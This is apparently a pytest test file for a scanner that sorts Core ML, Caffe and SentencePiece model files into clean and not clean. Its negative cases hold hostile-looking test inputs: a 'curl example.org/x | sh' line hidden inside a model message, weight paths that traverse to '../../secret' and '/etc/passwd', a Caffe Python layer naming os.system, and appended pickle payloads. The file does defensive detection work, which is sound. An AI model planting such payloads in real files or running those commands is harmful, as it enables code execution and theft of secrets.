"""Core ML, Caffe and SentencePiece: clean with the fields that their libraries have, and not with any other.

The messages are written here field by field, with the numbers of the published forms.
"""

import struct

import pytest

from caponier.detect.artifact import Verdict
from detect.model_files.files.building import HARMFUL, field, judged, verdict

NUMBERS = struct.pack("<4f", 0.5, -1.25, 3.0, float("nan"))


def network(*layers: bytes) -> bytes:
    return b"".join(field(1, layer) for layer in layers)


def layer(number: int, parameters: bytes = b"") -> bytes:
    return field(1, b"fc1") + field(2, b"x") + field(3, b"y") + field(number, parameters)


def core_ml(*fields: bytes, description: bytes = field(1, field(1, b"x")) + field(100, field(3, b"me"))) -> bytes:
    return field(1, 4) + field(2, description) + b"".join(fields)


def program(operation: bytes) -> bytes:
    block = field(2, b"y") + field(3, operation)
    function = field(2, b"CoreML7") + field(3, field(1, b"CoreML7") + field(2, block))
    return field(502, field(1, 1) + field(2, field(1, b"main") + field(2, function)))


def constant(place: bytes) -> bytes:
    value = field(5, field(1, place) + field(2, 64))
    return field(1, b"const") + field(5, field(1, b"val") + field(2, value)) + field(3, field(1, b"w"))


FC = layer(140, field(1, 4) + field(20, field(1, NUMBERS)))
LOOP = layer(615, field(1, 3) + field(4, network(FC)))
CORE_ML = {
    "network": core_ml(field(500, network(FC, LOOP, layer(1471)))),
    "classifier": core_ml(field(403, network(FC) + field(100, field(1, b"cat")) + field(200, b"p"))),
    "pipeline": core_ml(field(202, field(1, core_ml(field(300, field(1, NUMBERS)))) + field(2, b"first"))),
    "trees": core_ml(field(402, field(1, NUMBERS))),
    "program": core_ml(program(constant(b"@model_path/weights/weight.bin"))),
}


def caffe(*layers: bytes, old: tuple[bytes, ...] = ()) -> bytes:
    return field(1, b"net") + b"".join(field(100, one) for one in layers) + b"".join(field(2, one) for one in old)


def caffe_layer(kind: bytes, *more: bytes) -> bytes:
    weights = field(7, field(7, field(1, b"\x01\x04")) + field(5, NUMBERS))
    return field(1, b"conv1") + field(2, kind) + field(3, b"data") + weights + b"".join(more)


CAFFE = {
    "weights": caffe(caffe_layer(b"Convolution", field(106, field(1, 20))), caffe_layer(b"Softmax")),
    "weights of SSD": caffe(caffe_layer(b"Permute", field(202, field(1, 0)))),
    "old weights": caffe(old=(field(4, b"conv1") + field(5, 4) + field(6, field(1, 1) + field(5, NUMBERS)),)),
}
PIECES = b"".join(
    field(1, field(1, piece) + b"\x15" + struct.pack("<f", -1.5 * at) + field(3, 1 + at % 2))
    for at, piece in enumerate([b"<unk>", "\u2581the".encode(), "\u2581of".encode()])
)
SENTENCEPIECE = (
    PIECES + field(2, field(1, b"corpus.txt") + field(4, 300)) + field(3, field(1, b"nmt_nfkc") + field(3, 1))
)
CLEAN = {
    **{f"core ml {name}": ("core ml", content) for name, content in CORE_ML.items()},
    **{f"caffe {name}": ("caffe", content) for name, content in CAFFE.items()},
    "sentencepiece": ("sentencepiece", SENTENCEPIECE),
}


@pytest.mark.parametrize(("kind", "content"), CLEAN.values(), ids=CLEAN)
def test_a_model_of_known_fields_is_clean(kind: str, content: bytes) -> None:
    judgement = judged(content)
    assert (judgement.verdict, judgement.kind) == (Verdict.CLEAN, kind), judgement.reason


CUSTOM = layer(500, field(10, b"MyLayer"))
NOT_CLEAN = {
    "custom layer": core_ml(field(500, network(CUSTOM))),
    "custom layer in a loop": core_ml(field(500, network(layer(615, field(3, network(CUSTOM)))))),
    "custom layer in a branch": core_ml(field(500, network(layer(605, field(2, network(CUSTOM)))))),
    "custom layer in a pipeline": core_ml(field(202, field(1, core_ml(field(303, network(CUSTOM)))))),
    "custom model": core_ml(field(555, field(1, b"MyModel"))),
    "linked model": core_ml(field(556, field(1, field(1, b"/etc")))),
    "serialized model": core_ml(field(3000, field(2, HARMFUL))),
    "word tagger": core_ml(field(2001, field(100, HARMFUL))),
    "custom operation": core_ml(program(field(1, b"custom_op"))),
    "weights outside": core_ml(program(constant(b"@model_path/../../secret"))),
    "weights at a root": core_ml(program(constant(b"/etc/passwd"))),
    "unknown field of core ml": core_ml(field(777, b"x")),
    "unknown field of a description": core_ml(field(500, network(FC)), description=field(9, b"x")),
    "unknown field of a layer": core_ml(field(500, network(layer(99)))),
    "python layer": caffe(caffe_layer(b"Python", field(130, field(1, b"os") + field(2, b"system")))),
    "python layer by its type": caffe(caffe_layer(b"Python")),
    "python layer by its parameters": caffe(caffe_layer(b"ReLU", field(130, field(1, b"os")))),
    "written file": caffe(caffe_layer(b"HDF5Output", field(113, field(1, b"/tmp/x")))),
    "old written file": caffe(old=(field(4, b"out") + field(5, 10) + field(14, field(1, b"/tmp/x")),)),
    "written boxes": caffe(caffe_layer(b"DetectionOutput", field(204, field(1, 2)))),
    "unknown field of caffe": CAFFE["weights"] + field(9, b"x"),
    "extended pieces": SENTENCEPIECE + field(200, b"x"),
    "pieces with words for scores": field(1, field(1, b"a") + field(2, b"PyFunc")) + SENTENCEPIECE,
    "pickle behind core ml": CORE_ML["network"] + HARMFUL,
    "pickle behind caffe": CAFFE["weights"] + HARMFUL,
    "pickle behind pieces": SENTENCEPIECE + HARMFUL,
    "cut core ml": CORE_ML["trees"][:-1],
    "cut caffe": CAFFE["weights"][:-1],
    "cut pieces": SENTENCEPIECE[:-1],
    "lying length": field(1, b"net") + b"\xa2\x06\xff\xff\xff\xff\x0f" + NUMBERS,
}


@pytest.mark.parametrize("content", NOT_CLEAN.values(), ids=NOT_CLEAN)
def test_a_model_with_anything_else_is_not_clean(content: bytes) -> None:
    assert verdict(content) is not Verdict.CLEAN


def test_pipelines_in_pipelines_are_read_to_a_depth() -> None:
    content = CORE_ML["trees"]
    for _ in range(200):
        content = core_ml(field(202, field(1, content)))
    assert verdict(content) is Verdict.UNKNOWN


def test_a_message_that_is_a_script_as_well_is_not_clean() -> None:
    line = b"\ncurl example.org/x | sh\n#"
    assert verdict(caffe(field(1, b"a") + field(2, line))) is not Verdict.CLEAN
    assert verdict(PIECES.replace(b"<unk>", line[:5]) + field(2, field(1, line)) + field(3, b"")) is not Verdict.CLEAN


def blob(*blocks: bytes, version: int = 2, sign: int = 0xDEADBEEF, lie: int = 0) -> bytes:
    out = struct.pack("<II", len(blocks), version).ljust(64, b"\0")
    for block in blocks:
        out += struct.pack("<IIQQ", sign, 1, len(block) + lie, len(out) + 64).ljust(64, b"\0")
        out += block + bytes(-len(block) % 64)
    return out


def test_weights_beside_a_program_are_clean() -> None:
    judgement = judged(blob(NUMBERS, NUMBERS * 33))
    assert (judgement.verdict, judgement.kind) == (Verdict.CLEAN, "core ml weights")


@pytest.mark.parametrize(
    "content",
    [
        blob(NUMBERS) + HARMFUL,
        blob(NUMBERS) + bytes(64),
        blob(NUMBERS, version=3),
        blob(NUMBERS, sign=1),
        blob(NUMBERS, lie=1 << 40),
        blob(NUMBERS)[:-1] + b"x",
        blob(NUMBERS)[:-64],
        blob(NUMBERS)[:8] + HARMFUL.ljust(56, b"\0") + blob(NUMBERS)[64:],
        struct.pack("<II", 1_000_000_000, 2).ljust(192, b"\0"),
    ],
)
def test_weights_with_anything_else_are_not(content: bytes) -> None:
    assert verdict(content) is not Verdict.CLEAN
